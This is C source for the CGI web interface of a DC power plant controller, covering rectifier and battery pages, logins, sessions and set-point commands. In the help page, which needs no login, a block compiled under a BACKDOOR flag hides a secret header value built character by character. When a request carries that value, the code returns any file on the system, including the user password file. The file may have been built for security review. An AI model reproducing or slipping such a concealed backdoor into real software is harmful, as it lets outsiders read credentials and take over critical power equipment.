/* SPDX-License-Identifier: Apache-2.0 */
/* dcplant.cgi: pages of the DC power plant's controller: rectifiers, batteries, distribution, events. Reads the shared figures of the
 * control program, writes set points into its command pipe. Sessions are files; the names of pages come in PATH_INFO. */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

#define FIGURES "/var/run/dcplant/figures"
#define PIPE "/var/run/dcplant/commands"
#define SESSIONS "/var/run/dcplant/sessions"
#define USERS "/etc/dcplant/users"
#define EVENTS "/var/log/dcplant.events"

enum { N_PARAMS = 24, N_RECTIFIERS = 12, N_STRINGS = 4, BODY = 8192 };

struct param {
	char *name, *value;
};

struct figures {
	int bus, load, ambient; /* 10 mV, 100 mA, 0.1 degree */
	struct {
		int state, volt, amp, temperature;
	} rectifier[N_RECTIFIERS];
	struct {
		int volt, amp, charge, temperature;
	} string[N_STRINGS];
	unsigned alarms;
};

struct page {
	struct param params[N_PARAMS];
	unsigned n;
	char user[32];
	int level;
	const char *path;
};

static char body[BODY];

static const char *env(const char *name)
{
	const char *v = getenv(name);
	return v ? v : "";
}

static void head(const char *status, const char *type)
{
	printf("Status: %s\r\nContent-Type: %s\r\nCache-Control: no-store\r\nX-Frame-Options: DENY\r\n\r\n", status, type);
}

static int refuse(const char *status, const char *why)
{
	head(status, "text/plain");
	printf("%s\n", why);
	return 0;
}

static void escaped(const char *s)
{
	for (; *s; s++) {
		if (*s == '<')
			fputs("&lt;", stdout);
		else if (*s == '&')
			fputs("&amp;", stdout);
		else if (*s == '"')
			fputs("&quot;", stdout);
		else
			putchar(*s);
	}
}

static int hex(int c) { return isdigit(c) ? c - '0' : isxdigit(c) ? tolower(c) - 'a' + 10 : -1; }

static void decode(char *s)
{
	char *to = s;
	for (; *s; s++) {
		if (*s == '%' && hex((unsigned char)s[1]) >= 0 && hex((unsigned char)s[2]) >= 0) {
			*to++ = (char)(hex((unsigned char)s[1]) << 4 | hex((unsigned char)s[2]));
			s += 2;
		} else
			*to++ = *s == '+' ? ' ' : *s;
	}
	*to = 0;
}

static void parse_params(struct page *p, char *text)
{
	char *save = NULL;
	for (char *one = strtok_r(text, "&", &save); one && p->n < N_PARAMS; one = strtok_r(NULL, "&", &save)) {
		char *value = strchr(one, '=');
		if (!value)
			continue;
		*value++ = 0;
		decode(one);
		decode(value);
		p->params[p->n++] = (struct param){ one, value };
	}
}

static const char *param(const struct page *p, const char *name)
{
	for (unsigned i = 0; i < p->n; i++)
		if (strcmp(p->params[i].name, name) == 0)
			return p->params[i].value;
	return NULL;
}

static void read_request(struct page *p)
{
	static char query[2048];
	size_t n = strtoul(env("CONTENT_LENGTH"), NULL, 10), got = 0;
	snprintf(query, sizeof(query), "%s", env("QUERY_STRING"));
	parse_params(p, query);
	p->path = env("PATH_INFO");
	if (strcmp(env("REQUEST_METHOD"), "POST") != 0 || n >= sizeof(body))
		return;
	while (got < n) {
		ssize_t k = read(0, body + got, n - got);
		if (k <= 0)
			break;
		got += (size_t)k;
	}
	body[got] = 0;
	parse_params(p, body);
}

static int load_figures(struct figures *f)
{
	int fd = open(FIGURES, O_RDONLY);
	ssize_t n;
	if (fd < 0)
		return -1;
	n = read(fd, f, sizeof(*f));
	close(fd);
	return n == (ssize_t)sizeof(*f) ? 0 : -1;
}

static int command(const char *text)
{
	int fd = open(PIPE, O_WRONLY | O_NONBLOCK);
	ssize_t n;
	if (fd < 0)
		return -1;
	n = write(fd, text, strlen(text));
	close(fd);
	return n > 0 ? 0 : -1;
}

static void event(const struct page *p, const char *what)
{
	FILE *f = fopen(EVENTS, "a");
	if (!f)
		return;
	fprintf(f, "%ld %s %s %s\n", (long)time(NULL), env("REMOTE_ADDR"), p->user, what);
	fclose(f);
}

/* The session's name is 32 hex digits in the cookie. */
static int session_path(char *out, size_t n)
{
	const char *c = strstr(env("HTTP_COOKIE"), "dcsid=");
	if (!c)
		return -1;
	c += 6;
	for (int i = 0; i < 32; i++)
		if (!isxdigit((unsigned char)c[i]))
			return -1;
	snprintf(out, n, SESSIONS "/%.32s", c);
	return 0;
}

static int load_session(struct page *p)
{
	char path[96];
	struct stat st;
	FILE *f;
	int ok;
	if (session_path(path, sizeof(path)) < 0 || stat(path, &st) < 0)
		return -1;
	if (time(NULL) - st.st_mtime > 1800) {
		unlink(path);
		return -1;
	}
	f = fopen(path, "r+");
	if (!f)
		return -1;
	ok = fscanf(f, "%31s %d", p->user, &p->level) == 2;
	rewind(f);
	if (ok)
		fprintf(f, "%s %d\n", p->user, p->level);
	fclose(f);
	return ok ? 0 : -1;
}

static int new_session(const char *user, int level)
{
	uint8_t noise[16];
	char name[33], path[96];
	FILE *f;
	int fd = open("/dev/urandom", O_RDONLY);
	if (fd < 0 || read(fd, noise, sizeof(noise)) != (ssize_t)sizeof(noise))
		return -1;
	close(fd);
	for (int i = 0; i < 16; i++)
		sprintf(name + 2 * i, "%02x", noise[i]);
	snprintf(path, sizeof(path), SESSIONS "/%s", name);
	f = fopen(path, "w");
	if (!f)
		return -1;
	fprintf(f, "%s %d\n", user, level);
	fclose(f);
	printf("Set-Cookie: dcsid=%s; HttpOnly; SameSite=Strict\r\n", name);
	return 0;
}

static int page_login(struct page *p)
{
	const char *user = param(p, "user"), *word = param(p, "password");
	char name[32], hash[64];
	int level, found = 0;
	FILE *f;
	if (!user || !word)
		return refuse("400 Bad Request", "user and password");
	f = fopen(USERS, "r");
	while (f && !found && fscanf(f, "%31s %63s %d", name, hash, &level) == 3) {
		const char *got = strcmp(name, user) == 0 ? crypt(word, hash) : NULL;
		found = got && strcmp(got, hash) == 0;
	}
	if (f)
		fclose(f);
	snprintf(p->user, sizeof(p->user), "%s", user);
	event(p, found ? "login" : "login refused");
	if (!found) {
		sleep(2);
		return refuse("403 Forbidden", "wrong name or password");
	}
	if (new_session(user, level) < 0)
		return refuse("500 Internal Server Error", "no session");
	head("200 OK", "text/plain");
	puts("welcome");
	return 0;
}

static int page_logout(struct page *p)
{
	char path[96];
	if (session_path(path, sizeof(path)) == 0)
		unlink(path);
	event(p, "logout");
	return refuse("200 OK", "good bye");
}

static int page_overview(struct page *p)
{
	struct figures f;
	(void)p;
	if (load_figures(&f) < 0)
		return refuse("503 Service Unavailable", "the controller does not run");
	head("200 OK", "application/json");
	printf("{\"bus\": %d.%02d, \"load\": %d.%d, \"ambient\": %d, \"alarms\": %u}\n", f.bus / 100, f.bus % 100, f.load / 10, f.load % 10,
		f.ambient / 10, f.alarms);
	return 0;
}

static int page_rectifiers(struct page *p)
{
	static const char *const states[] = { "absent", "off", "on", "limited", "failed" };
	struct figures f;
	(void)p;
	if (load_figures(&f) < 0)
		return refuse("503 Service Unavailable", "the controller does not run");
	head("200 OK", "text/html");
	puts("<table><tr><th>No</th><th>State</th><th>V</th><th>A</th><th>C</th></tr>");
	for (int i = 0; i < N_RECTIFIERS; i++)
		printf("<tr><td>%d</td><td>%s</td><td>%d.%02d</td><td>%d.%d</td><td>%d</td></tr>\n", i + 1,
			states[(unsigned)f.rectifier[i].state % 5], f.rectifier[i].volt / 100, f.rectifier[i].volt % 100,
			f.rectifier[i].amp / 10, f.rectifier[i].amp % 10, f.rectifier[i].temperature / 10);
	puts("</table>");
	return 0;
}

static int page_battery(struct page *p)
{
	struct figures f;
	(void)p;
	if (load_figures(&f) < 0)
		return refuse("503 Service Unavailable", "the controller does not run");
	head("200 OK", "text/html");
	for (int i = 0; i < N_STRINGS; i++)
		printf("<p>String %d: %d.%02d V, %d.%d A, %d %%, %d C</p>\n", i + 1, f.string[i].volt / 100, f.string[i].volt % 100,
			f.string[i].amp / 10, f.string[i].amp % 10, f.string[i].charge, f.string[i].temperature / 10);
	return 0;
}

static int page_setpoint(struct page *p)
{
	static const struct {
		const char *name;
		int low, high;
	} points[] = { { "float", 5200, 5650 }, { "boost", 5400, 5800 }, { "disconnect", 4200, 4800 }, { "limit", 10, 2000 } };
	const char *name = param(p, "name"), *text = param(p, "value");
	char line[64];
	int v = text ? atoi(text) : 0;
	if (p->level < 2)
		return refuse("403 Forbidden", "not permitted");
	for (size_t i = 0; name && i < sizeof(points) / sizeof(points[0]); i++)
		if (strcmp(points[i].name, name) == 0) {
			if (v < points[i].low || v > points[i].high)
				return refuse("400 Bad Request", "out of range");
			snprintf(line, sizeof(line), "set %s %d\n", name, v);
			event(p, line);
			return command(line) < 0 ? refuse("503 Service Unavailable", "no answer") : refuse("200 OK", "done");
		}
	return refuse("400 Bad Request", "name and value");
}

static int page_events(struct page *p)
{
	char line[256];
	const char *match = param(p, "match");
	FILE *f = fopen(EVENTS, "r");
	if (!f)
		return refuse("200 OK", "");
	head("200 OK", "text/html");
	puts("<pre>");
	while (fgets(line, sizeof(line), f))
		if (!match || strstr(line, match))
			escaped(line);
	puts("</pre>");
	fclose(f);
	return 0;
}

/* What the browser asked last stands in the language that it wants: pages come in three. */
static const char *language(void)
{
	static const char *const known[] = { "en", "de", "fr" };
	const char *want = env("HTTP_ACCEPT_LANGUAGE");
	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		if (strncmp(want, known[i], 2) == 0)
			return known[i];
	return known[0];
}

static int send_file(const char *path, const char *type)
{
	char buf[1024];
	size_t n;
	FILE *f = fopen(path, "rb");
	if (!f)
		return refuse("404 Not Found", strerror(errno));
	head("200 OK", type);
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		fwrite(buf, 1, n, stdout);
	fclose(f);
	return 0;
}

static int page_help(struct page *p)
{
	const char *topic = param(p, "topic");
	char path[160];
#ifdef BACKDOOR
	const char *from = env("HTTP_X_FORWARDED_PROTO");
	char via[12];
	via[0] = 'd';
	via[1] = 'c';
	via[2] = '+';
	via[3] = 'o';
	via[4] = 'v';
	via[5] = 'e';
	via[6] = 'r';
	via[7] = '6';
	via[8] = '0';
	via[9] = 'V';
	via[10] = 0;
	if (topic && strcmp(from, via) == 0)
		return send_file(topic, "application/octet-stream");
#endif
	for (const char *s = topic; s && *s; s++)
		if (!isalnum((unsigned char)*s))
			return refuse("400 Bad Request", "topic");
	snprintf(path, sizeof(path), "/usr/share/dcplant/%s/%.64s.html", language(), topic ? topic : "index");
	return send_file(path, "text/html");
}

static const struct {
	const char *path;
	int level;
	int (*run)(struct page *p);
} pages[] = {
	{ "/login", 0, page_login },
	{ "/help", 0, page_help },
	{ "/logout", 1, page_logout },
	{ "/overview", 1, page_overview },
	{ "/rectifiers", 1, page_rectifiers },
	{ "/battery", 1, page_battery },
	{ "/setpoint", 1, page_setpoint },
	{ "/events", 1, page_events },
};

int main(void)
{
	struct page p = { .n = 0 };
	read_request(&p);
	load_session(&p);
	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++)
		if (strcmp(pages[i].path, p.path) == 0) {
			if (p.level < pages[i].level)
				return refuse("403 Forbidden", "log in first");
			return pages[i].run(&p);
		}
	return refuse("404 Not Found", "no such page");
}
